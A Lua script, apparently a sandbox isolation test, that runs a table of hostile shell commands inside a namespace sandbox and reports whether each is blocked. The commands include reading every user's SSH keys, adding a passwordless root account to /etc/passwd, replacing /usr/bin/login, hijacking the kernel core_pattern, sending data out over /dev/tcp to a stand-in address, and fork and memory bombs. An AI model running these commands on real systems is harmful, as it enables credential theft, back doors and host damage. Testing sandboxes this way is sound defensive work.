--- A hostile script, as a build step or a package might bring it: what it tried, and what came of it.
-- usage: lua hostile.lua
local ns = require "ns"

--- Each line is an attempt, and succeeds if it gets what it wants. The last number is the time it has, in seconds: what ends
-- by itself has plenty, as a machine may be slow.
local ATTEMPTS = {
  { "read a secret of the environment", '[ -n "$SECRET_TOKEN" ] || { echo "no such variable" >&2; false; }' },
  { "read the keys of the user", "cat ~/.ssh/* /root/.ssh/* /home/*/.ssh/*" },
  { "read the host's own files", 'cat "$MARKER" "/proc/1/root$MARKER" "/../../..$MARKER"' },
  { "leave a back door in the system", "echo 'evil::0:0::/:/bin/sh' >>/etc/passwd" },
  { "replace a program", "cp /bin/true /usr/bin/login" },
  { "make the system writable", "mount -o remount,bind,rw /usr" },
  { "make a device of the disk", "mknod /tmp/disk b 8 0" },
  { "get at the kernel", "echo '|/tmp/evil' >/proc/sys/kernel/core_pattern" },
  { "send the loot away", "bash -c 'echo loot >/dev/tcp/192.0.2.1/80'" },
  { "kill a process of the host", 'pkill -9 -fx "$VICTIM" || { echo "No such process" >&2; false; }' },
  { "see other programs", '[ "$(ps -A | wc -l)" -gt 6 ] || { echo "only its own are there" >&2; false; }' },
  { "rename the machine", "hostname evil" },
  { "get a mount namespace", "unshare --mount true" },
  { "never end", "trap '' TERM; while :; do :; done", 2 },
  { "fill the memory", "tail /dev/zero" },
  { "start a thousand processes", "i=0; while [ $i -lt 1000 ]; do sleep $NUMBER & i=$((i + 1)); done" },
  { "stay behind as a daemon", "setsid sleep $NUMBER & sleep 0.1; kill -9 $$" },
}

local marker = os.tmpname()
local host_pid = assert(io.open("/proc/self/stat")):read("*n")
local number = ("1%09d"):format(host_pid) -- seconds of sleep, by which processes are known that were left
local victim = assert(ns.spawn { "sleep", "2" .. number }) -- by its name: its pid may be one of the sandbox's, too
local box = ns.sandbox():grace(0.2):max_output(4096)
  :rlimits { as = 64 * 1024 * 1024, nproc = 100, core = 0, fsize = 1024 * 1024 }
  :env { MARKER = marker, VICTIM = "sleep 2" .. number, NUMBER = number }

local function came_of(r)
  if r.ok then return "DONE" end
  if r.timed_out then return "stopped by the timeout" end
  if r.how == "signal" then return "killed by " .. r.signame end
  return (r.stderr:match("[^\n]*"):match("[^:]*$"):gsub("^ ", ""))
end

for _, attempt in ipairs(ATTEMPTS) do
  local r = assert(box:clone():timeout(attempt[3] or 30):run("sh", "-c", attempt[2]))
  print(("%-34s %s"):format(attempt[1], came_of(r)))
end
os.remove(marker)
victim:close()
local left = ns.run({ "pgrep", "-fx", "sleep " .. number }).stdout
print(("%-34s %s"):format("what is left of it", left == "" and "nothing" or left))
